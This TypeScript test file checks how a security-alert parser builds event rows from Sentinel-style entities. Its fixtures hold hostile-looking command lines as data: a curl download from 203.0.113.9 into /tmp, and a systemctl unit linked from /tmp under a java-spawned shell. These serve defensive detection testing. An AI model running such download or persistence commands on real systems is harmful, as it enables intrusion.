import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readEntities } from '../../src/alert/entities.ts';
import { rawRowAlert, securityAlert, singleAlert, webShellRow } from '../support/sentinel-alert.ts';
import { readAlertOf, readRowOf } from './read-one.ts';

const host = { $id: '1', Type: 'host', HostName: 'web-01', DnsDomain: 'example.com', OSFamily: 'Linux' };
const account = { $id: '2', Type: 'account', Name: 'www-data' };
const process = { $id: '3', Type: 'process', CommandLine: 'systemctl enable cache-sync' };

const ofEntities = (entities: readonly unknown[], columns = {}) => securityAlert({ entities, columns });

test('rows out of entities alone', () => {
  const rows: readonly (readonly [string, readonly unknown[], readonly unknown[]])[] = [
    ['a process', [process], [{ ProcessCommandLine: 'systemctl enable cache-sync' }]],
    [
      'a process, its host and its account, none of them linked',
      [host, account, process],
      [
        {
          ProcessCommandLine: 'systemctl enable cache-sync',
          DeviceName: 'web-01.example.com',
          AccountName: 'www-data',
        },
      ],
    ],
    [
      'links by reference, also forward; hexadecimal ids; parent and grandparent',
      [
        {
          $id: '10',
          Type: 'process',
          ProcessId: '0x1e49a',
          CommandLine: 'systemctl link /tmp/x.service',
          Host: { $ref: '1' },
          Account: { $id: '11', Type: 'account', Name: 'tomcat', Sid: 'S-1-5-21-1' },
          ImageFile: { $id: '12', Type: 'file', Directory: '/usr/bin', Name: 'systemctl' },
          ParentProcess: {
            $id: '13',
            Type: 'process',
            ProcessId: '4242',
            CommandLine: 'sh -c "systemctl link /tmp/x.service"',
            ImageFile: { Type: 'file', Directory: '/usr/bin/', Name: 'dash' },
            ParentProcess: { Type: 'process', ImageFile: { Type: 'file', Name: 'java' } },
          },
        },
        { $ref: '11' },
        { ...host, MdatpDeviceId: 'ab'.repeat(20) },
      ],
      [
        {
          ProcessCommandLine: 'systemctl link /tmp/x.service',
          ProcessId: '124058',
          AccountName: 'tomcat',
          AccountSid: 'S-1-5-21-1',
          DeviceName: 'web-01.example.com',
          DeviceId: 'ab'.repeat(20),
          FileName: 'systemctl',
          FolderPath: '/usr/bin/systemctl',
          InitiatingProcessId: '4242',
          InitiatingProcessCommandLine: 'sh -c "systemctl link /tmp/x.service"',
          InitiatingProcessFileName: 'dash',
          InitiatingProcessFolderPath: '/usr/bin/dash',
          InitiatingProcessParentFileName: 'java',
        },
      ],
    ],
    [
      'the only process and the only file are one event; of a unit file the process is the writer',
      [process, { $id: '4', Type: 'file', Directory: '/etc/systemd/system/x.service', Name: 'x.service' }],
      [
        {
          ProcessCommandLine: 'systemctl enable cache-sync',
          InitiatingProcessCommandLine: 'systemctl enable cache-sync',
          FileName: 'x.service',
          FolderPath: '/etc/systemd/system/x.service',
        },
      ],
    ],
    [
      'several processes, and a parent that gives no row of its own',
      [
        { $id: '20', Type: 'process', CommandLine: 'a', ParentProcess: { $ref: '22' } },
        { $id: '21', Type: 'process', CommandLine: 'b' },
        { $id: '22', Type: 'process', CommandLine: 'sh' },
      ],
      [{ ProcessCommandLine: 'a', InitiatingProcessCommandLine: 'sh' }, { ProcessCommandLine: 'b' }],
    ],
    [
      'a dangling reference',
      [{ $ref: '99' }, { ...process, Host: { $ref: '98' } }],
      [{ ProcessCommandLine: 'systemctl enable cache-sync' }],
    ],
    [
      'a process that is its own parent',
      [{ ...process, ParentProcess: { $ref: '3' } }],
      [
        {
          ProcessCommandLine: 'systemctl enable cache-sync',
          InitiatingProcessCommandLine: 'systemctl enable cache-sync',
        },
      ],
    ],
    [
      'a cycle of two',
      [
        { $id: '30', Type: 'process', CommandLine: 'a', ParentProcess: { $ref: '31' } },
        { $id: '31', Type: 'process', CommandLine: 'b', ParentProcess: { $ref: '30' } },
      ],
      [
        { ProcessCommandLine: 'a', InitiatingProcessCommandLine: 'b' },
        { ProcessCommandLine: 'b', InitiatingProcessCommandLine: 'a' },
      ],
    ],
    [
      'repeated ids: the definition before the reference',
      [
        { $id: '5', Type: 'host', HostName: 'db-01' },
        { Type: 'process', CommandLine: 'a', Host: { $ref: '5' } },
        { $id: '5', Type: 'host', HostName: 'db-02' },
        { Type: 'process', CommandLine: 'b', Host: { $ref: '5' } },
      ],
      [
        { ProcessCommandLine: 'a', DeviceName: 'db-01' },
        { ProcessCommandLine: 'b', DeviceName: 'db-02' },
      ],
    ],
    [
      'forward references to repeated ids: the first definition after the reference',
      [
        { Type: 'process', CommandLine: 'a', Host: { $ref: '5' } },
        { $id: '5', Type: 'host', HostName: 'db-01' },
        { $id: '5', Type: 'host', HostName: 'db-02' },
      ],
      [{ ProcessCommandLine: 'a', DeviceName: 'db-01' }],
    ],
    [
      'the form of ARM',
      [
        { id: '/entities/h0', kind: 'Host', properties: { hostName: 'web-03' } },
        { id: '/entities/f0', kind: 'File', properties: { directory: '/etc', fileName: 'x.conf' } },
        {
          id: '/entities/P',
          kind: 'Process',
          properties: {
            commandLine: 'systemctl start x',
            hostEntityId: '/entities/h',
            imageFileEntityId: '/entities/f',
          },
        },
        { id: '/entities/H', kind: 'Host', properties: { hostName: 'web-02', dnsDomain: 'example.com' } },
        { id: '/entities/f', kind: 'File', properties: { directory: '/usr/bin', fileName: 'systemctl' } },
      ],
      [
        {
          ProcessCommandLine: 'systemctl start x',
          DeviceName: 'web-02.example.com',
          FileName: 'systemctl',
          FolderPath: '/usr/bin/systemctl',
        },
        { FileName: 'x.conf', FolderPath: '/etc/x.conf' },
      ],
    ],
  ];
  for (const [name, entities, columns] of rows) {
    const alert = readAlertOf(ofEntities(entities));
    assert.deepEqual(
      alert.rows.map((row) => row.columns),
      columns,
      name,
    );
    assert.ok(
      alert.rows.every((row) => row.source === 'entities'),
      name,
    );
  }
});

test('a host and an account alone make a row that says so; of several it is open which', () => {
  const alone = readAlertOf(ofEntities([host, account]));
  assert.deepEqual(alone.gaps, ['rows.no-activity']);
  assert.deepEqual(
    alone.rows.map((row) => row.columns),
    [{ DeviceName: 'web-01.example.com', AccountName: 'www-data' }],
  );
  const several = readAlertOf(ofEntities([host, { Type: 'host', HostName: 'web-02' }]));
  assert.deepEqual(several.gaps, ['rows.no-activity']);
  assert.deepEqual(several.rows[0]?.columns, {});
  assert.deepEqual(several.rows[0]?.candidates, { DeviceName: ['web-01.example.com', 'web-02'] });
});

test('no row at all is a gap', () => {
  for (const entities of [[], [{ Type: 'ip', Address: '192.0.2.1' }], ['host', 7, null]]) {
    const alert = readAlertOf(ofEntities(entities));
    assert.deepEqual([alert.rows, alert.gaps], [[], ['rows.none']], JSON.stringify(entities));
  }
});

test('entities that cannot be read are a gap; none, null and "" are not', () => {
  for (const [Entities, gaps] of [
    ['[{"$id":"1"', ['rows.none', 'entities.unreadable']],
    ['7', ['rows.none', 'entities.unreadable']],
    ['', ['rows.none']],
    [null, ['rows.none']],
    [undefined, ['rows.none']],
    [[process], []],
  ] as const) {
    assert.deepEqual(readAlertOf(ofEntities([], { Entities })).gaps, gaps, JSON.stringify(Entities));
  }
});

test('a row takes host and account from the entities when there is but one, and never loses its own', () => {
  const { DeviceName: _host, AccountName: _account, ...row } = webShellRow;
  assert.deepEqual(
    readRowOf(rawRowAlert(row, { entities: [host, { ...host, HostName: 'WEB-01' }, account, account] }))
      .columns,
    {
      ...row,
      DeviceName: 'web-01.example.com',
      AccountName: 'www-data',
    },
  );
  const kept = readRowOf(
    rawRowAlert(webShellRow, {
      entities: [
        { Type: 'host', HostName: 'WEB-01' },
        { Type: 'account', Name: 'root2' },
      ],
    }),
  );
  assert.deepEqual(kept.columns, webShellRow);
  assert.deepEqual(kept.candidates, { AccountName: ['root2'] });
  const two = readRowOf(rawRowAlert(row, { entities: [account, { Type: 'account', Name: 'deploy' }] }));
  assert.deepEqual([two.columns, two.candidates], [row, { AccountName: ['www-data', 'deploy'] }]);
});

test('root is dropped from entities: no account stays unknown, and of two events the one left is nobody’s', () => {
  const { AccountName: _, ...row } = webShellRow;
  assert.equal(readRowOf(rawRowAlert(row, { entities: [host] })).columns['AccountName'], undefined);

  const byRoot = { ...row, Timestamp: '2026-01-15T08:00:01.000Z' };
  const alert = readAlertOf(singleAlert([row, byRoot], { entities: [host, account] }));
  for (const { columns, candidates } of alert.rows) {
    assert.equal(columns['AccountName'], undefined);
    assert.deepEqual(candidates, { AccountName: ['www-data'] });
  }
  // Two equal rows fold into one position, and still are two events.
  const folded = readAlertOf(
    singleAlert([row], {
      entities: [account],
      properties: { 'Search Query Results Overall Count': '2' },
    }),
  );
  assert.deepEqual(folded.rows[0]?.columns['AccountName'], undefined);
  assert.deepEqual(folded.gaps, ['rows.folded']);
});

test('a command line or file that only the entities name stands beside the row', () => {
  const entities = [
    { Type: 'process', CommandLine: webShellRow['ProcessCommandLine'] },
    { Type: 'process', CommandLine: 'curl http://203.0.113.9/x -o /tmp/x' },
    { Type: 'file', Directory: '/tmp', Name: 'x.service' },
  ];
  assert.deepEqual(readRowOf(rawRowAlert(webShellRow, { entities })).candidates, {
    ProcessCommandLine: ['curl http://203.0.113.9/x -o /tmp/x'],
    FolderPath: ['/tmp/x.service'],
    FileName: ['x.service'],
  });
});

test('a reference that everybody makes and nobody defines costs no more than it is long', () => {
  const references = Array.from({ length: 50_000 }, () => ({ $ref: 'nowhere' }));
  const { graph } = readEntities([...references, { $id: 'nowhere', Type: 'host', HostName: 'web-01' }]);
  assert.equal(graph.top.length, 1);
});

test('more entities than make rows stand beside them', () => {
  const processes = Array.from({ length: 150 }, (_, index) => ({
    Type: 'process',
    CommandLine: `run ${index}`,
  }));
  const alert = readAlertOf(ofEntities(processes));
  assert.equal(alert.rows.length, 100);
  assert.deepEqual(alert.gaps, ['rows.truncated']);
  assert.equal(alert.rows[0]?.candidates?.['ProcessCommandLine']?.at(-1), 'run 149');
});
